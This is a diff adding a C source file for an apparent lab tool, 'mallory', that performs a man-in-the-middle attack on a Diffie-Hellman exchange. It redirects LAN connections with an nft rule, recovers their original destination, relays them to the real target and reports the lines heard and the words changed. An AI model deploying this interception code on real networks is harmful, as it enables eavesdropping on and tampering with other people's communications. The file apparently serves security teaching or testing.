@@ -1,0 +1,172 @@
+#include "dhmiddle.h"
+
+#include <errno.h>
+#include <jansson.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <poll.h>
+#include <sodium.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <linux/netfilter_ipv4.h> /* after netinet/in.h, or both define the same */
+
+#include "accesspoint.h"
+#include "glassnet/clock.h"
+
+struct dhmiddle {
+	const struct dhmiddle_options *opt;
+	struct trace *t;
+	int listener;
+	struct dhmiddle_talk talk[DHMIDDLE_TALKS_MAX];
+	size_t n;
+	char *msg; /* 256 octets */
+};
+
+static enum err fail(struct dhmiddle *m, enum err e, const char *what)
+{
+	snprintf(m->msg, 256, "%s: %s", what, e == ERR_NET ? strerror(errno) : err_text(e));
+	return e;
+}
+
+static enum err open_listener(struct dhmiddle *m, const struct ip *self)
+{
+	struct endpoint at = {*self, DHMIDDLE_OWN_PORT};
+	struct sockaddr_storage sa;
+	socklen_t len = endpoint_to_sockaddr(&sa, &at);
+
+	m->listener = socket(sa.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+	if (m->listener < 0)
+		return fail(m, ERR_NET, "no socket");
+	setsockopt(m->listener, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
+	if (bind(m->listener, (struct sockaddr *)&sa, len) != 0 || listen(m->listener, 8) != 0)
+		return fail(m, ERR_NET, "cannot listen");
+	return ERR_OK;
+}
+
+/* Whom a redirected connection was meant for: the kernel has kept it. */
+static enum err meant_for(int fd, struct endpoint *out)
+{
+	struct sockaddr_in sa;
+	socklen_t len = sizeof(sa);
+
+	if (getsockopt(fd, SOL_IP, SO_ORIGINAL_DST, &sa, &len) != 0)
+		return ERR_NET;
+	return endpoint_from_sockaddr(out, (struct sockaddr *)&sa, len);
+}
+
+static void serve(struct dhmiddle *m, int fd, const struct endpoint *from)
+{
+	struct dhmiddle_talk *talk = &m->talk[m->n];
+	char victim[IP_TEXT], target[IP_TEXT];
+	struct endpoint to;
+	int target_fd = -1;
+
+	if (meant_for(fd, &to) != ERR_OK || to.port != DHMIDDLE_PORT)
+		return; /* nobody's connection but ours: it was not redirected */
+	*talk = (struct dhmiddle_talk){.end = "unreachable"};
+	m->n++;
+	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &(int){1}, sizeof(int));
+	ip_text(victim, &from->ip);
+	ip_text(target, &to.ip);
+	ev_decision(m->t, "taken", NULL, "%s wants to talk to %s; mallory answers, and calls %s itself",
+	    victim, target, target);
+	if (dial(&to, deadline_in(m->opt->limit_ns, m->opt->stop_fd), &target_fd) == ERR_OK) {
+		dhmiddle_relay(m->opt, m->t, fd, victim, target_fd, target, talk);
+		close(target_fd);
+	} else {
+		ev_decision(m->t, "unreachable", NULL, "%s does not answer", target);
+	}
+}
+
+static void accept_all(struct dhmiddle *m)
+{
+	struct deadline forever = deadline_in(INT64_C(1000000) * NS_PER_S, m->opt->stop_fd);
+
+	while (m->n < DHMIDDLE_TALKS_MAX && net_wait(m->listener, POLLIN, forever) == ERR_OK) {
+		struct sockaddr_storage sa;
+		socklen_t len = sizeof(sa);
+		struct endpoint from;
+		int fd = accept4(m->listener, (struct sockaddr *)&sa, &len, SOCK_NONBLOCK | SOCK_CLOEXEC);
+		if (fd < 0)
+			continue;
+		if (endpoint_from_sockaddr(&from, (struct sockaddr *)&sa, len) == ERR_OK)
+			serve(m, fd, &from);
+		close(fd);
+	}
+}
+
+/* --- what came of it
+ * -------------------------------------------------------------------------------------------- */
+
+static json_t *talk_json(const struct dhmiddle_talk *k)
+{
+	json_t *heard = json_array();
+
+	for (size_t i = 0; i < k->n_heard; i++)
+		json_array_append_new(heard, json_string(k->heard[i]));
+	return json_pack("{s:s, s:s, s:s, s:I, s:I, s:o}", "end", k->end, "fingerprint_with_victim",
+	    k->fingerprint[0], "fingerprint_with_target", k->fingerprint[1], "lines", (json_int_t)k->lines,
+	    "changed", (json_int_t)k->changed, "heard", heard);
+}
+
+static enum err emit_result(struct dhmiddle *m)
+{
+	json_t *all = json_array();
+	size_t lines = 0, changed = 0;
+
+	for (size_t i = 0; i < m->n; i++) {
+		json_array_append_new(all, talk_json(&m->talk[i]));
+		lines += m->talk[i].lines;
+		changed += m->talk[i].changed;
+	}
+	json_t *o = json_pack("{s:o}", "conversations", all);
+	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
+	json_decref(o);
+	enum err e = lines > 0 ? ERR_OK : ERR_NEGATIVE;
+	ev_result(m->t, e, data,
+	    "mallory was in the middle of %zu conversation%s; lines heard: %zu, words changed: %zu", m->n,
+	    m->n == 1 ? "" : "s", lines, changed);
+	if (data)
+		sodium_memzero(data, strlen(data));
+	free(data);
+	return e;
+}
+
+enum err dhmiddle_run(const struct dhmiddle_options *opt, struct trace *t, char msg[static 256])
+{
+	struct dhmiddle *m = calloc(1, sizeof(*m));
+	struct lan lan;
+	enum err e = m && sodium_init() >= 0 ? ERR_OK : ERR_NOMEM;
+
+	snprintf(msg, 256, "out of memory");
+	if (e != ERR_OK) {
+		free(m);
+		return e;
+	}
+	*m = (struct dhmiddle){.opt = opt, .t = t, .listener = -1, .msg = msg};
+	if (lan_find(&lan) != ERR_OK)
+		e = fail(m, ERR_UNSUPPORTED,
+		    "this host has no LAN beside its way out: is this the lab's mallory?");
+	if (e == ERR_OK)
+		e = open_listener(m, &lan.self);
+	if (e == ERR_OK && (e = dhmiddle_redirect(lan.ifname)) != ERR_OK)
+		e = fail(m, e, "nft does not take the rule that turns connections round");
+	if (e == ERR_OK) {
+		ev_decision(t, "ready", NULL,
+		    "whoever on %s calls port %d of anybody reaches mallory: an nft rule of this router "
+		    "turns it round",
+		    lan.ifname, DHMIDDLE_PORT);
+		trace_flush(t);
+		accept_all(m);
+		dhmiddle_unredirect();
+		e = emit_result(m);
+	}
+	if (m->listener >= 0)
+		close(m->listener);
+	sodium_memzero(m, sizeof(*m));
+	free(m);
+	return e;
+}
